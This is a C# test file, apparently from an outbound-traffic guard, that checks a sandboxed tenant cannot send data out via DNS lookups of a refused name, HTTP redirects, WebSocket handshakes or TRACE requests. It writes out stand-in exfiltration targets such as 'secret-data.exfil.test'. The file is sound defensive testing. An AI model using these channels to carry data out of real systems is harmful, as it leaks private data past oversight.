namespace OutboundInterception.Tests.Holes;

/// <summary>Other ways out than HTTP.</summary>
[CancelAfter(60_000)]
public class LOtherApiTests
{
    [Test]
    public async Task L4_NameOfARefusedHost_IsNotResolved()
    {
        List<string> asked = [];
        using HttpClient plain = new(new ResolvingFirst(asked));
        Assert.That(() => plain.GetStringAsync("http://secret-data.exfil.test/"), Throws.InstanceOf<HttpRequestException>());

        Assert.That(asked, Is.EqualTo(new[] { "secret-data.exfil.test" }), "the question itself carried the data out");

        await using RawServer outside = new(RawServer.Redirect("http://on-a-redirect.exfil.test/"));
        await using GuardedTenant guarded = new();
        Exception? refused = await guarded.FailAsync(context => context.Http.GetStringAsync("http://secret-data.exfil.test/"));
        Exception? redirected = await guarded.FailAsync(context => context.Http.GetStringAsync(Hosts.AllowedUrl(outside.Port)));
        Exception? handshake = await guarded.FailAsync(context => context.ConnectWebSocketAsync(new Uri("ws://secret-data.exfil.test/")));
        Exception? method = await guarded.FailAsync(context => context.FetchAsync(new HttpRequestMessage(HttpMethod.Trace, "http://secret-data.allowed.test/")));

        Assert.That(new[] { refused, redirected, handshake }, Has.All.TypeOf<OutboundBlockedException>());
        Assert.That(method, Is.TypeOf<InvalidSubrequestException>());
        Assert.That(guarded.Resolved, Is.EqualTo(new[] { Hosts.Allowed }));
    }

    private sealed class ResolvingFirst(List<string> asked) : HttpMessageHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            // Stands for Dns.GetHostAddressesAsync, after which comes the check of the name.
            asked.Add(request.RequestUri!.IdnHost);
            throw new HttpRequestException("BLOCKED");
        }
    }
}
